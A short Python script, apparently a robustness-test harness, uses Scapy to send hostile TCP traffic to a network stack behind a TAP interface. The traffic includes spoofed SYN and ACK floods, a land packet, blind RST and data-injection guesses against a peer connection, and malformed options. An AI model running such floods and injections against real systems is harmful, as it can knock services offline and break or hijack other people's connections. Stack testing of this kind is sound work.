"""Run by the host's Python, which has Scapy: hostile segments onto a TAP, of which the stack behind it is the victim.

    python3 scapy_attack.py INTERFACE VICTIM_MAC VICTIM PEER PORT PEER_PORT COUNT
"""

import random
import sys

from scapy.all import IP, TCP, Ether, Raw, conf  # type: ignore[import-not-found]


def main() -> None:
    """Floods from everywhere, and guesses at one connection of PEER."""
    interface, mac, victim, peer, port, peer_port, count = sys.argv[1:]
    chance = random.Random(11)
    out = conf.L2socket(iface=interface)

    def send(source: str, sport: int, dport: int, flags: str, payload: bytes = b"", **fields: object) -> None:
        segment = TCP(sport=sport, dport=dport, flags=flags, seq=chance.getrandbits(32), **fields)
        frame = Ether(dst=mac) / IP(src=source, dst=victim) / segment
        out.send(frame / Raw(payload) if payload else frame)

    for _ in range(int(count)):
        stranger = f"10.9.8.{chance.randrange(3, 250)}"
        anywhere = chance.randrange(1, 65536)
        send(stranger, anywhere, int(port), "S", options=[("MSS", 1460), ("WScale", 7)])
        send(stranger, anywhere, int(port), "A", ack=chance.getrandbits(32))
        send(victim, int(port), int(port), "S")  # land
        ours = (peer, int(peer_port), int(port))
        guess = chance.getrandbits(32)
        send(*ours, chance.choice(("R", "RA", "S", "SA", "FA")), ack=guess)
        send(*ours, "PA", b"evil" * 300, ack=guess)
        blocks = tuple(chance.getrandbits(32) for _ in range(4))
        send(*ours, "PAU", b"evil", ack=guess, urgptr=chance.randrange(65536), options=[("SAck", blocks)])
        send(*ours, "A", dataofs=chance.randrange(16), options=[(chance.randrange(255), b"xx")])


if __name__ == "__main__":
    main()
